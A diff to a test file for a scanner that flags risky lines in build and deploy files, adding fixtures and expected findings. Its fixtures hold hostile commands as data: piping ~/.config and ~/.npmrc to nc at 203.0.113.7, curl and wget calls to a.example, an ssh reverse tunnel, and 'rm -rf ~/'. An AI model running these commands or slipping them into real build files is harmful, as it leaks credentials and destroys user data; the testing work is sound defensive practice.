@@ -20,6 +20,9 @@ HOSTILE = {
     "deploy.sh": '#!/bin/bash\n[ -n "$TO" ] || exit 1\ntar c ~/.config | nc 203.0.113.7 4444\n',
     "Makefile": "all:\n\techo\n\nifdef LIVE\nrelease:\n\t@curl -d @x http://a.example\nendif\n",
     "package.json": '{"scripts": {\n"build": "cat ~/.npmrc | nc 203.0.113.7 4444"\n}}\n',
+    "pyproject.toml": '[project]\ndescription = "curl for all"\n[tool.poe.tasks]\nrun = "nc a.example 1"\n',
+    "Taskfile.yml": 'tasks:\n  ship:\n    cmds:\n      - wget http://a.example/x\n      - cmd: "rm -rf ~/"\n',
+    "Procfile": "web: ssh -R 80:localhost:1 a.example\n",
     "tox.ini": '[testenv]\ncommands = bash -c "wget http://a.example/x"\n',
 }
 
@@ -77,6 +80,9 @@ def test_changed_lines_of_scripts_and_build_files(tmp_path: Path) -> None:
         "deploy.sh": [(3, "reach the network")],
         "Makefile": [(6, "reach the network")],
         "package.json": [(2, "reach the network")],
+        "pyproject.toml": [(4, "reach the network")],
+        "Taskfile.yml": [(4, "reach the network"), (5, "delete files")],
+        "Procfile": [(1, "reach the network")],
         "tox.ini": [(2, "run code that it is given"), (2, "reach the network")],
     }
 
